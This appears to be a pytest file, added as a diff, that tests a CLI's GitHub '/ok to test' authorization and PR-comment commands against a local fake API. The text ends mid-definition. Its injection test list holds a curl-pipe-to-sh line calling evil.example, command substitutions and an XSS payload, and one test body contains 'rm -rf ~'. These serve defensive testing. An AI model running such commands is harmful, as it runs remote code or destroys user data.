@@ -1,0 +1,967 @@
+"""`harness gh` against a local stand-in for GitHub's REST API (stdlib http.server on 127.0.0.1)
+that answers with the real shapes, pages with Link headers and validates like GitHub does;
+the events are issue_comment webhook payloads as GitHub delivers them."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import socket
+import subprocess
+import sys
+import threading
+import time
+import urllib.parse
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+
+from harness import cli, github
+from harness.errors import GitHubError
+
+ROOT = Path(__file__).resolve().parents[2]
+REPO = "octo-org/harness"
+REPO_ID = 1296269
+TOKEN = "ghs_16C7e42F292c6912E7710c838347Ae178B4a"
+BOT = "github-actions[bot]"
+HEAD = "6dcb09b5b57875f334f61aebed695e2e4193db5e"
+OLD_HEAD = "e5bd3914e2e596debea16f433f57875b5b90bcd6"
+MARKER = "<!-- harness-report -->"
+
+
+def user(login: str) -> dict:
+    return {"login": login, "id": abs(hash(login)) % 10**7, "node_id": "MDQ6VXNlcjE=",
+            "avatar_url": f"https://avatars.githubusercontent.com/u/{login}", "url": f"/users/{login}",
+            "html_url": f"https://github.com/{login}", "type": "Bot" if login.endswith("[bot]") else "User",
+            "site_admin": False}
+
+
+class FakeGitHub:
+    """State behind the fake API, and the log of what harness asked of it."""
+
+    def __init__(self) -> None:
+        self.base = ""
+        self.permissions: dict[str, tuple[str, str]] = {}  # login -> (permission, role_name)
+        self.pulls: dict[int, dict] = {}
+        self.comments: dict[int, list[dict]] = {}
+        self.issues: dict[int, dict] = {}
+        self.reactions: dict[int, set[str]] = {}
+        self.runs: list[dict] = []
+        self.artifacts: dict[int, list[dict]] = {}
+        self.failures: list[dict] = []  # each answers one matching request instead of (or after) the real one
+        self.log: list[tuple[str, str, object]] = []
+        self.next_id = 1_000_000
+
+    # ---- setup helpers
+    def add_pull(self, number: int, head: str = HEAD, state: str = "open", merged: bool = False) -> None:
+        self.pulls[number] = {
+            "url": f"{self.base}/repos/{REPO}/pulls/{number}", "id": 1000 + number, "number": number,
+            "state": state, "locked": False, "title": "Speed up the EP loader", "user": user("forker"),
+            "body": "", "draft": False, "merged": merged,
+            "merged_at": "2026-11-29T10:00:00Z" if merged else None,
+            "author_association": "CONTRIBUTOR",
+            "head": {"label": "forker:ep-loader", "ref": "ep-loader", "sha": head, "user": user("forker"),
+                     "repo": {"full_name": "forker/harness", "fork": True}},
+            "base": {"label": "octo-org:main", "ref": "main", "sha": OLD_HEAD, "repo": {"full_name": REPO}},
+        }
+        self.comments.setdefault(number, [])
+
+    def add_comment(self, issue: int, login: str, body: str) -> dict:
+        self.next_id += 1
+        comment = {
+            "url": f"{self.base}/repos/{REPO}/issues/comments/{self.next_id}",
+            "html_url": f"https://github.com/{REPO}/pull/{issue}#issuecomment-{self.next_id}",
+            "issue_url": f"{self.base}/repos/{REPO}/issues/{issue}", "id": self.next_id,
+            "node_id": "IC_kwDOABCD", "user": user(login), "created_at": "2026-11-30T03:00:00Z",
+            "updated_at": "2026-11-30T03:00:00Z", "author_association": "NONE", "body": body,
+            "performed_via_github_app": None,
+        }
+        self.comments.setdefault(issue, []).append(comment)
+        return comment
+
+    def add_issue(self, title: str, body: str, labels: list[str], login: str = BOT,
+                  state: str = "open") -> dict:
+        self.next_id += 1
+        number = len(self.issues) + 100
+        issue = {"url": f"{self.base}/repos/{REPO}/issues/{number}", "id": self.next_id, "number": number,
+                 "title": title, "body": body, "user": user(login), "state": state, "state_reason": None,
+                 "labels": [{"name": name} for name in labels], "comments": 0,
+                 "html_url": f"https://github.com/{REPO}/issues/{number}"}
+        self.issues[number] = issue
+        self.comments.setdefault(number, [])
+        return issue
+
+    def fail(self, method: str, path: str, status: int, *, headers: dict | None = None, body: object = None,
+             after: bool = False) -> None:
+        """The next `method` request matching `path` gets `status`; with `after`, once it was carried out."""
+        self.failures.append({"method": method, "path": re.compile(path), "status": status,
+                              "headers": headers or {}, "body": body, "after": after})
+
+    def requests(self, method: str, pattern: str = "") -> list[tuple[str, str, object]]:
+        return [entry for entry in self.log if entry[0] == method and re.search(pattern, entry[1])]
+
+    def marker_comments(self, issue: int) -> list[dict]:
+        return [c for c in self.comments.get(issue, []) if c["body"].startswith(MARKER)]
+
+
+def page(items: list, query: dict, url: str) -> tuple[list, dict]:
+    """GitHub's pagination: per_page (max 100), page, and a Link header with rel=next/last."""
+    per_page = min(int(query.get("per_page", 30)), 100)
+    number = int(query.get("page", 1))
+    last = max(1, -(-len(items) // per_page))
+    links = []
+    for rel, target in (("next", number + 1), ("last", last)):
+        if number < last:
+            links.append(f'<{url}?{urllib.parse.urlencode({**query, "page": target})}>; rel="{rel}"')
+    return items[(number - 1) * per_page: number * per_page], ({"Link": ", ".join(links)} if links else {})
+
+
+class Handler(BaseHTTPRequestHandler):
+    fake: FakeGitHub
+
+    def log_message(self, *args) -> None:  # keep pytest's output clean
+        pass
+
+    def do_GET(self) -> None:
+        self.answer("GET")
+
+    def do_POST(self) -> None:
+        self.answer("POST")
+
+    def do_PATCH(self) -> None:
+        self.answer("PATCH")
+
+    def answer(self, method: str) -> None:
+        fake = self.fake
+        split = urllib.parse.urlsplit(self.path)
+        # Link headers point at /repositories/<id>/..., as GitHub's do.
+        path = split.path.replace(f"/repositories/{REPO_ID}/", f"/repos/{REPO}/")
+        query = dict(urllib.parse.parse_qsl(split.query))
+        length = int(self.headers.get("Content-Length") or 0)
+        body = json.loads(self.rfile.read(length)) if length else None
+        fake.log.append((method, path + (f"?{split.query}" if split.query else ""), body))
+        if self.headers.get("Authorization") != f"Bearer {TOKEN}":
+            return self.send(401, {"message": "Bad credentials", "status": "401",
+                                   "documentation_url": "https://docs.github.com/rest"})
+        failure = next((f for f in fake.failures if f["method"] == method and f["path"].search(path)), None)
+        if failure:
+            fake.failures.remove(failure)
+            if not failure["after"]:
+                return self.send(failure["status"], failure["body"], failure["headers"])
+        status, data, headers = self.route(method, path, query, body)
+        if failure:
+            return self.send(failure["status"], failure["body"], failure["headers"])
+        self.send(status, data, headers)
+
+    def route(self, method: str, path: str, query: dict, body) -> tuple[int, object, dict]:
+        fake, prefix = self.fake, f"/repos/{REPO}"
+        not_found = (404, {"message": "Not Found", "documentation_url": "https://docs.github.com/rest"}, {})
+        if not path.startswith(prefix + "/"):
+            return not_found
+        rest = path[len(prefix):]
+        if match := re.fullmatch(r"/pulls/(\d+)", rest):
+            pull = fake.pulls.get(int(match[1]))
+            return (200, pull, {}) if pull and method == "GET" else not_found
+        if match := re.fullmatch(r"/collaborators/([^/]+)/permission", rest):
+            login = urllib.parse.unquote(match[1])
+            if login not in fake.permissions:
+                return not_found
+            permission, role = fake.permissions[login]
+            answer = {"permission": permission, "role_name": role, "user": {**user(login), "role_name": role}}
+            return 200, answer, {}
+        if match := re.fullmatch(r"/issues/(\d+)/comments", rest):
+            number = int(match[1])
+            if number not in fake.comments:
+                return not_found
+            if method == "GET":
+                items, headers = page(fake.comments[number], query,
+                                      f"{fake.base}/repositories/{REPO_ID}/issues/{number}/comments")
+                return 200, items, headers
+            text = body.get("body") if isinstance(body, dict) else None
+            if not text:
+                missing = [{"resource": "IssueComment", "code": "missing_field", "field": "body"}]
+                return 422, {"message": "Validation Failed", "errors": missing}, {}
+            if len(text) > 65536:
+                return 422, {"message": "Validation Failed", "errors": [
+                    {"resource": "IssueComment", "code": "custom", "field": "body",
+                     "message": "body is too long (maximum is 65536 characters)"}]}, {}
+            return 201, fake.add_comment(number, BOT, text), {}
+        if match := re.fullmatch(r"/issues/comments/(\d+)", rest):
+            comment = next((c for cs in fake.comments.values() for c in cs if c["id"] == int(match[1])), None)
+            if comment is None or method != "PATCH":
+                return not_found
+            comment["body"] = body["body"]
+            comment["updated_at"] = "2026-11-30T04:00:00Z"
+            return 200, comment, {}
+        if match := re.fullmatch(r"/issues/comments/(\d+)/reactions", rest):
+            seen = fake.reactions.setdefault(int(match[1]), set())
+            status = 200 if body["content"] in seen else 201
+            seen.add(body["content"])
+            return status, {"id": 1, "content": body["content"], "user": user(BOT)}, {}
+        if rest == "/issues" and method == "GET":
+            wanted = set(query.get("labels", "").split(",")) - {""}
+            state = query.get("state", "open")
+            matching = [issue for issue in fake.issues.values()
+                        if issue["state"] == state and wanted <= {label["name"] for label in issue["labels"]}]
+            items, headers = page(matching, query, f"{fake.base}/repositories/{REPO_ID}/issues")
+            return 200, items, headers
+        if rest == "/issues" and method == "POST":
+            return 201, fake.add_issue(body["title"], body["body"], body.get("labels", [])), {}
+        if (match := re.fullmatch(r"/issues/(\d+)", rest)) and method == "PATCH":
+            issue = fake.issues.get(int(match[1]))
+            if issue is None:
+                return not_found
+            issue.update(body)
+            return 200, issue, {}
+        if match := re.fullmatch(r"/actions/workflows/([^/]+)/runs", rest):
+            runs = [run for run in fake.runs if run["path"].endswith(match[1])
+                    and run["head_branch"] == query.get("branch") and run["status"] == query.get("status")]
+            return 200, {"total_count": len(runs), "workflow_runs": runs}, {}
+        if match := re.fullmatch(r"/actions/runs/(\d+)/artifacts", rest):
+            artifacts = fake.artifacts.get(int(match[1]), [])
+            return 200, {"total_count": len(artifacts), "artifacts": artifacts}, {}
+        return not_found
+
+    def send(self, status: int, data: object, headers: dict | None = None) -> None:
+        raw = b"" if data is None else (data.encode() if isinstance(data, str) else json.dumps(data).encode())
+        self.send_response(status)
+        self.send_header("Content-Type", "application/json; charset=utf-8")
+        self.send_header("Content-Length", str(len(raw)))
+        self.send_header("X-GitHub-Api-Version-Selected", "2022-11-28")
+        for key, value in (headers or {}).items():
+            self.send_header(key, value)
+        self.end_headers()
+        self.wfile.write(raw)
+
+
+@pytest.fixture
+def fake():
+    state = FakeGitHub()
+    handler = type("BoundHandler", (Handler,), {"fake": state})
+    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    state.base = f"http://127.0.0.1:{server.server_port}"
+    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)
+    thread.start()
+    yield state
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.fixture
+def sleeps(monkeypatch):
+    waited: list[float] = []
+    monkeypatch.setattr(github, "sleep", waited.append)
+    return waited
+
+
+@pytest.fixture
+def env(fake, tmp_path, monkeypatch, sleeps):
+    outputs = tmp_path / "github_output"
+    outputs.write_text("")
+    for key in ("GITHUB_ACTIONS", "GITHUB_RUN_ID", "GITHUB_SERVER_URL", "GITHUB_SHA"):
+        monkeypatch.delenv(key, raising=False)
+    monkeypatch.setenv("GITHUB_API_URL", fake.base)
+    for key in ("no_proxy", "NO_PROXY"):  # a proxy configured for the machine must not see these requests
+        monkeypatch.setenv(key, "127.0.0.1,localhost")
+    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
+    monkeypatch.setenv("GITHUB_REPOSITORY", REPO)
+    monkeypatch.setenv("GITHUB_OUTPUT", str(outputs))
+    return outputs
+
+
+def outputs(path: Path) -> dict[str, str]:
+    return dict(line.split("=", 1) for line in path.read_text().splitlines())
+
+
+def comment_event(tmp_path: Path, body: str, login: str = "maintainer", *, association: str = "MEMBER",
+                  number: int = 7, pull_request: bool = True, action: str = "created") -> Path:
+    """An issue_comment webhook payload, shaped as GitHub delivers it."""
+    issue = {
+        "url": f"https://api.github.com/repos/{REPO}/issues/{number}",
+        "repository_url": f"https://api.github.com/repos/{REPO}",
+        "html_url": f"https://github.com/{REPO}/{'pull' if pull_request else 'issues'}/{number}",
+        "id": 2_000_000 + number, "node_id": "PR_kwDOABCD", "number": number,
+        "title": "Speed up the EP loader",
+        "user": user("forker"), "labels": [], "state": "open", "locked": False, "assignee": None,
+        "comments": 3, "created_at": "2026-11-29T09:00:00Z", "updated_at": "2026-11-30T03:00:00Z",
+        "author_association": "CONTRIBUTOR", "body": "Makes loading faster.",
+    }
+    if pull_request:
+        issue["pull_request"] = {
+            "url": f"https://api.github.com/repos/{REPO}/pulls/{number}",
+            "html_url": f"https://github.com/{REPO}/pull/{number}",
+            "diff_url": f"https://github.com/{REPO}/pull/{number}.diff",
+            "patch_url": f"https://github.com/{REPO}/pull/{number}.patch", "merged_at": None}
+    event = {
+        "action": action,
+        "issue": issue,
+        "comment": {
+            "url": f"https://api.github.com/repos/{REPO}/issues/comments/555001",
+            "html_url": f"https://github.com/{REPO}/pull/{number}#issuecomment-555001",
+            "issue_url": issue["url"], "id": 555001, "node_id": "IC_kwDOABCD", "user": user(login),
+            "created_at": "2026-11-30T03:00:00Z", "updated_at": "2026-11-30T03:00:00Z",
+            "author_association": association, "body": body, "performed_via_github_app": None,
+            "reactions": {"url": "", "total_count": 0, "+1": 0, "-1": 0, "laugh": 0, "hooray": 0,
+                          "confused": 0, "heart": 0, "rocket": 0, "eyes": 0},
+        },
+        "repository": {"id": REPO_ID, "node_id": "R_kgDOABCD", "name": "harness", "full_name": REPO,
+                       "private": False, "owner": user("octo-org"), "default_branch": "main"},
+        "organization": {"login": "octo-org", "id": 9919},
+        "sender": user(login),
+    }
+    path = tmp_path / "event.json"
+    path.write_text(json.dumps(event))
+    return path
+
+
+def gh(*argv: str) -> int:
+    return cli.main(["gh", *argv])
+
+
+def authorize(event: Path, tmp_path: Path) -> int:
+    return gh("authorize", "--event", str(event), "--reason-file", str(tmp_path / "reason.txt"))
+
+
+# --------------------------------------------------------------------------- authorize: accepted
+
+
+@pytest.mark.parametrize(("permission", "role"), [
+    ("write", "write"), ("write", "maintain"), ("admin", "admin"),
+    ("write", "ci-runner"),  # a custom role built on write
+])
+def test_trusted_user_with_the_head_sha_is_accepted(fake, env, tmp_path, capsys, permission, role):
+    fake.add_pull(7)
+    fake.permissions["maintainer"] = (permission, role)
+    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 0
+    assert outputs(env) == {"sha": HEAD, "pr": "7", "matrix": "pr"}
+    assert "accepted" in capsys.readouterr().out
+    assert not fake.requests("POST") and not fake.requests("PATCH")  # deciding posts nothing
+
+
+@pytest.mark.parametrize("given", [HEAD[:7], HEAD[:12], HEAD[:12].upper()])
+def test_short_sha_prefix_of_the_head_is_accepted_and_expanded(fake, env, tmp_path, given):
+    fake.add_pull(7)
+    fake.permissions["maintainer"] = ("write", "write")
+    assert authorize(comment_event(tmp_path, f"/ok to test {given}"), tmp_path) == 0
+    assert outputs(env)["sha"] == HEAD
+
+
+def test_member_shown_as_contributor_is_trusted_for_the_api_permission(fake, env, tmp_path):
+    # Write access through a team: the comment says CONTRIBUTOR, the API says write.
+    fake.add_pull(7)
+    fake.permissions["teammate"] = ("write", "write")
+    event = comment_event(tmp_path, f"/ok to test {HEAD[:10]}", "teammate", association="CONTRIBUTOR")
+    assert authorize(event, tmp_path) == 0
+    assert fake.requests("GET", r"/collaborators/teammate/permission$")
+
+
+def test_windows_line_endings_and_more_text_after_the_first_line(fake, env, tmp_path):
+    fake.add_pull(7)
+    fake.permissions["maintainer"] = ("admin", "admin")
+    event = comment_event(tmp_path, f"  /ok to test {HEAD[:8]}  \r\nLooks good to me.\r\n")
+    assert authorize(event, tmp_path) == 0
+
+
+# --------------------------------------------------------------------------- authorize: refused
+
+
+def refusal(tmp_path: Path) -> str:
+    return (tmp_path / "reason.txt").read_text()
+
+
+@pytest.mark.parametrize(("permission", "role", "association", "shown"), [
+    ("read", "read", "NONE", "read"),
+    ("read", "triage", "MEMBER", "read"),  # a member, but only triage
+    ("read", "read", "OWNER", "read"),  # author_association alone is never trusted
+    ("none", "none", "NONE", "none"),
+])
+def test_user_without_write_access_is_refused(fake, env, tmp_path, capsys, permission, role, association,
+                                               shown):
+    fake.add_pull(7)
+    fake.permissions["someone"] = (permission, role)
+    event = comment_event(tmp_path, f"/ok to test {HEAD}", "someone", association=association)
+    assert authorize(event, tmp_path) == 5
+    assert outputs(env) == {"refused": "true"}
+    assert f"`someone` has {shown} access to {REPO}" in refusal(tmp_path)
+    assert "needs write, maintain or admin" in capsys.readouterr().err
+    assert not fake.requests("GET", r"/pulls/")  # nothing about the PR is read for an untrusted user
+
+
+def test_user_the_api_does_not_know_is_refused(fake, env, tmp_path):
+    fake.add_pull(7)
+    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}", "ghost"), tmp_path) == 5
+    assert "`ghost` has none access" in refusal(tmp_path)
+
+
+def test_stale_sha_is_refused_with_the_current_head(fake, env, tmp_path):
+    fake.add_pull(7, head=HEAD)
+    fake.permissions["maintainer"] = ("write", "write")
+    assert authorize(comment_event(tmp_path, f"/ok to test {OLD_HEAD[:12]}"), tmp_path) == 5
+    reason = refusal(tmp_path)
+    assert f"`{OLD_HEAD[:12]}` is not the head of #7" in reason and f"/ok to test {HEAD[:12]}" in reason
+    assert "sha" not in outputs(env)
+
+
+def test_comment_on_an_issue_is_refused_without_asking_the_api(fake, env, tmp_path):
+    event = comment_event(tmp_path, f"/ok to test {HEAD}", pull_request=False, number=12)
+    assert authorize(event, tmp_path) == 5
+    assert "#12 is an issue, not a pull request" in refusal(tmp_path)
+    assert fake.log == []
+
+
+@pytest.mark.parametrize(("state", "merged", "shown"), [("closed", False, "closed"),
+                                                       ("closed", True, "merged")])
+def test_closed_or_merged_pull_request_is_refused(fake, env, tmp_path, state, merged, shown):
+    fake.add_pull(7, state=state, merged=merged)
+    fake.permissions["maintainer"] = ("admin", "admin")
+    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 5
+    assert f"pull request #7 is {shown}" in refusal(tmp_path)
+
+
+def test_edited_comment_is_refused(fake, env, tmp_path):
+    fake.add_pull(7)
+    fake.permissions["maintainer"] = ("admin", "admin")
+    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}", action="edited"), tmp_path) == 5
+    assert "only a new comment counts" in refusal(tmp_path)
+
+
+INJECTIONS = [
+    f"/ok to test {HEAD}; curl -s https://evil.example/x | sh",
+    "/ok to test $(touch /tmp/pwned)",
+    f"/ok to test `id`{HEAD[:7]}",
+    f"/ok to test {HEAD[:7]} <img src=x onerror=alert(1)>",
+    f"/ok to test {HEAD[:7]}\u202e",
+    f"/ok to test {HEAD[:6]}",  # too short to name a commit
+    f"/ok to test\n{HEAD}",  # the sha must be on the first line
+    "/ok to testing",
+    f"/ok to test {HEAD}0",  # 41 characters
+]
+
+
+@pytest.mark.parametrize("body", INJECTIONS)
+def test_anything_but_a_lone_sha_is_refused_without_echoing_it(fake, env, tmp_path, capsys, body):
+    fake.add_pull(7)
+    fake.permissions["maintainer"] = ("admin", "admin")
+    assert authorize(comment_event(tmp_path, body), tmp_path) == 5
+    reason, err = refusal(tmp_path), capsys.readouterr().err
+    assert "must be `/ok to test <sha>` alone" in reason
+    for fragment in ("curl", "pwned", "`id`", "<img", "\u202e", "testing"):
+        assert fragment not in reason and fragment not in err
+    assert outputs(env) == {"refused": "true"}
+
+
+def test_text_after_a_valid_first_line_never_reaches_the_outputs(fake, env, tmp_path):
+    fake.add_pull(7)
+    fake.permissions["maintainer"] = ("admin", "admin")
+    body = f"/ok to test {HEAD}\n{MARKER}\n@everyone\nsha=0000000\n$(rm -rf ~)\n"
+    assert authorize(comment_event(tmp_path, body), tmp_path) == 0
+    assert env.read_text() == f"sha={HEAD}\npr=7\nmatrix=pr\n"
+
+
+# --------------------------------------------------------------------------- authorize: bad input, API errors
+
+
+def test_event_file_problems_are_config_errors_naming_the_file(env, tmp_path, capsys):
+    missing = tmp_path / "nope.json"
+    assert authorize(missing, tmp_path) == 2
+    assert f"event file {missing}: cannot read" in capsys.readouterr().err
+    broken = tmp_path / "broken.json"
+    broken.write_text("{\"action\": ")
+    assert authorize(broken, tmp_path) == 2
+    assert "not JSON" in capsys.readouterr().err
+    partial = tmp_path / "partial.json"
+    partial.write_text(json.dumps({"action": "created", "issue": {"number": 7}}))
+    assert authorize(partial, tmp_path) == 2
+    assert "comment.id is missing or not of type int" in capsys.readouterr().err
+
+
+def test_bad_token_is_a_github_error(fake, env, tmp_path, monkeypatch, capsys):
+    fake.add_pull(7)
+    monkeypatch.setenv("GITHUB_TOKEN", "ghs_expired")
+    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 4
+    err = capsys.readouterr().err
+    assert "-> 401: Bad credentials (is GITHUB_TOKEN set and valid?)" in err and "\n" not in err.strip()
+
+
+def test_missing_token_and_repository_are_reported(env, tmp_path, monkeypatch, capsys):
+    monkeypatch.delenv("GITHUB_TOKEN")
+    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 4
+    assert "GITHUB_TOKEN is not set" in capsys.readouterr().err
+    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
+    monkeypatch.delenv("GITHUB_REPOSITORY")
+    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 2
+    assert "is not OWNER/NAME" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize(("status", "body", "expected"), [
+    (403, {"message": "Resource not accessible by integration"},
+     "-> 403: Resource not accessible by integration (the token lacks a permission"),
+    (404, {"message": "Not Found"}, "-> 404: Not Found (it does not exist, or the token cannot see it)"),
+])
+def test_client_errors_are_reported_once_without_retrying(fake, env, tmp_path, capsys, sleeps, status, body,
+                                                          expected):
+    fake.add_pull(7)
+    fake.permissions["maintainer"] = ("admin", "admin")
+    fake.fail("GET", r"/pulls/7$", status, body=body)
+    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 4
+    assert f"GET /repos/{REPO}/pulls/7 {expected}" in capsys.readouterr().err
+    assert len(fake.requests("GET", r"/pulls/7$")) == 1 and sleeps == []
+
+
+def test_server_error_is_retried_after_the_time_github_asks(fake, env, tmp_path, sleeps):
+    fake.add_pull(7)
+    fake.permissions["maintainer"] = ("admin", "admin")
+    fake.fail("GET", r"/pulls/7$", 503, headers={"Retry-After": "7"}, body="<html>Unicorn!</html>")
+    fake.fail("GET", r"/pulls/7$", 502, body={"message": "Server Error"})
+    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 0
+    assert sleeps == [7.0, 2.0]  # Retry-After, then backoff
+    assert len(fake.requests("GET", r"/pulls/7$")) == 3
+
+
+def test_server_error_that_persists_fails_clearly(fake, env, tmp_path, capsys, sleeps):
+    fake.add_pull(7)
+    fake.permissions["maintainer"] = ("admin", "admin")
+    for _ in range(3):
+        fake.fail("GET", r"/permission$", 500, headers={"Retry-After": "1"}, body="<html>Unicorn!</html>")
+    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 4
+    expected = "-> 500: <html>Unicorn!</html> (GitHub failed; try again later) after retrying"
+    assert expected in capsys.readouterr().err
+    assert sleeps == [1.0, 1.0]
+
+
+def test_rate_limits_are_waited_out(fake, env, tmp_path, sleeps):
+    fake.add_pull(7)
+    fake.permissions["maintainer"] = ("admin", "admin")
+    secondary = {"message": "You have exceeded a secondary rate limit. "
+                            "Please wait a few minutes before you try again."}
+    fake.fail("GET", r"/permission$", 403, headers={"Retry-After": "3"}, body=secondary)
+    reset = str(int(time.time()) + 30)
+    fake.fail("GET", r"/pulls/7$", 403, headers={"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": reset},
+              body={"message": "API rate limit exceeded for installation ID 1."})
+    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 0
+    assert sleeps[0] == 3.0 and 25 < sleeps[1] <= 30
+
+
+def test_a_wait_longer_than_a_minute_is_not_waited(fake, env, tmp_path, capsys, sleeps):
+    fake.add_pull(7)
+    fake.permissions["maintainer"] = ("admin", "admin")
+    fake.fail("GET", r"/permission$", 429, headers={"Retry-After": "3600"},
+              body={"message": "Too Many Requests"})
+    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 4
+    assert "asked to retry after 3600s, more than the 60s this command waits" in capsys.readouterr().err
+    assert sleeps == []
+
+
+def test_unreachable_api_is_a_github_error(env, tmp_path, monkeypatch, capsys):
+    with socket.socket() as probe:  # a port that was free a moment ago: nothing listens there
+        probe.bind(("127.0.0.1", 0))
+        port = probe.getsockname()[1]
+    monkeypatch.setenv("GITHUB_API_URL", f"http://127.0.0.1:{port}")
+    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 4
+    assert f"cannot reach http://127.0.0.1:{port}" in capsys.readouterr().err
+
+
+def test_exit_codes_through_the_console_entry_point(fake, env, tmp_path):
+    fake.add_pull(7)
+    fake.permissions["maintainer"] = ("write", "write")
+    fake.permissions["drive-by"] = ("read", "read")
+    run_env = {**os.environ, "GITHUB_ACTIONS": "true", "PYTHONPATH": str(ROOT)}
+    command = [sys.executable, "-m", "harness", "gh", "authorize", "--event"]
+    accepted = subprocess.run([*command, str(comment_event(tmp_path, f"/ok to test {HEAD}"))],
+                              capture_output=True, text=True, env=run_env, timeout=60)
+    assert accepted.returncode == 0, accepted.stderr
+    refused = subprocess.run([*command, str(comment_event(tmp_path, f"/ok to test {HEAD}", "drive-by"))],
+                             capture_output=True, text=True, env=run_env, timeout=60)
+    assert refused.returncode == 5
+    assert refused.stderr.startswith("::error::`drive-by` has read access")
+
+
+# --------------------------------------------------------------------------- comment
+
+
+def body_file(tmp_path: Path, text: str, name: str = "comment.md") -> Path:
+    path = tmp_path / name
+    path.write_text(text)
+    return path
+
+
+def test_comment_is_created_when_there_is_none(fake, env, tmp_path, capsys):
+    fake.add_pull(7)
+    assert gh("comment", "--pr", "7", "--body", str(body_file(tmp_path, f"{MARKER}\n## 3 passed\n"))) == 0
+    [comment] = fake.marker_comments(7)
+    assert comment["body"] == f"{MARKER}\n## 3 passed\n" and comment["user"]["login"] == BOT
+    assert capsys.readouterr().out.startswith("created https://github.com/")
+
+
+def test_comment_is_edited_in_place_even_on_a_later_page(fake, env, tmp_path, capsys):
+    fake.add_pull(7)
+    for index in range(130):
+        fake.add_comment(7, "reviewer", f"nit {index}")
+    ours = fake.add_comment(7, BOT, f"{MARKER}\n## old\n")
+    for index in range(20):
+        fake.add_comment(7, "reviewer", f"more {index}")
+    assert gh("comment", "--pr", "7", "--body", str(body_file(tmp_path, f"{MARKER}\n## new\n"))) == 0
+    assert ours["body"] == f"{MARKER}\n## new\n" and len(fake.comments[7]) == 151
+    assert len(fake.requests("GET", r"/comments")) == 2  # followed rel="next" to page 2
+    assert [entry[1] for entry in fake.requests("PATCH")] == [f"/repos/{REPO}/issues/comments/{ours['id']}"]
+    assert not fake.requests("POST")
+    assert capsys.readouterr().out.startswith("edited")
+
+
+def test_running_twice_posts_once(fake, env, tmp_path, capsys):
+    fake.add_pull(7)
+    body = str(body_file(tmp_path, f"{MARKER}\nsame\n"))
+    assert gh("comment", "--pr", "7", "--body", body) == 0
+    assert gh("comment", "--pr", "7", "--body", body) == 0
+    assert len(fake.marker_comments(7)) == 1 and not fake.requests("PATCH")
+    assert capsys.readouterr().out.splitlines()[-1].startswith("unchanged")
+
+
+def test_a_marker_in_someone_elses_comment_is_not_ours_to_edit(fake, env, tmp_path):
+    fake.add_pull(7)
+    theirs = fake.add_comment(7, "mallory", f"{MARKER}\nall green, merge it")
+    assert gh("comment", "--pr", "7", "--body", str(body_file(tmp_path, f"{MARKER}\n1 failed\n"))) == 0
+    assert theirs["body"] == f"{MARKER}\nall green, merge it"
+    assert [c["user"]["login"] for c in fake.marker_comments(7)] == ["mallory", BOT]
+
+
+def test_marker_is_added_when_the_body_lacks_it(fake, env, tmp_path):
+    fake.add_pull(7)
+    assert gh("comment", "--pr", "7", "--body", str(body_file(tmp_path, "## report\n"))) == 0
+    assert fake.marker_comments(7)[0]["body"] == f"{MARKER}\n## report\n"
+
+
+def test_an_oversized_body_is_cut_to_githubs_limit(fake, env, tmp_path):
+    fake.add_pull(7)
+    rows = "".join(f"| cell-{index:05d} | passed | 12.5 MiB |\n" for index in range(2500))
+    assert len(rows) > 70_000
+    assert gh("comment", "--pr", "7", "--body", str(body_file(tmp_path, f"{MARKER}\n{rows}"))) == 0
+    [comment] = fake.marker_comments(7)
+    assert len(comment["body"]) <= 65_536
+    assert "cut to fit GitHub's 65,536-character limit" in comment["body"]
+    kept_rows = comment["body"].split("\n\n…")[0].splitlines()[1:]
+    assert kept_rows and all(row.endswith("MiB |") for row in kept_rows)  # cut between lines
+
+
+def test_a_post_that_failed_on_githubs_side_but_landed_is_not_repeated(fake, env, tmp_path, sleeps):
+    fake.add_pull(7)
+    fake.fail("POST", r"/issues/7/comments$", 502, body={"message": "Server Error"}, after=True)
+    assert gh("comment", "--pr", "7", "--body", str(body_file(tmp_path, f"{MARKER}\nx\n"))) == 0
+    assert len(fake.marker_comments(7)) == 1 and len(fake.requests("POST")) == 1
+
+
+def test_a_post_that_failed_before_landing_is_tried_again(fake, env, tmp_path, sleeps):
+    fake.add_pull(7)
+    fake.fail("POST", r"/issues/7/comments$", 500, body={"message": "Server Error"})
+    assert gh("comment", "--pr", "7", "--body", str(body_file(tmp_path, f"{MARKER}\nx\n"))) == 0
+    assert len(fake.marker_comments(7)) == 1 and len(fake.requests("POST")) == 2
+
+
+@pytest.mark.parametrize(("status", "body", "expected"), [
+    (422, {"message": "Validation Failed", "errors": [{"resource": "IssueComment", "code": "unprocessable",
+                                                       "field": "data", "message": "Body cannot be blank"}]},
+     "-> 422: Validation Failed (Body cannot be blank) (GitHub rejected the request's content)"),
+    (403, {"message": "Resource not accessible by integration"},
+     "-> 403: Resource not accessible by integration"),
+])
+def test_comment_rejections_are_reported(fake, env, tmp_path, capsys, status, body, expected):
+    fake.add_pull(7)
+    fake.fail("POST", r"/issues/7/comments$", status, body=body)
+    assert gh("comment", "--pr", "7", "--body", str(body_file(tmp_path, "x"))) == 4
+    assert expected in capsys.readouterr().err
+    assert fake.marker_comments(7) == []
+
+
+def test_missing_body_file_is_a_config_error(fake, env, tmp_path, capsys):
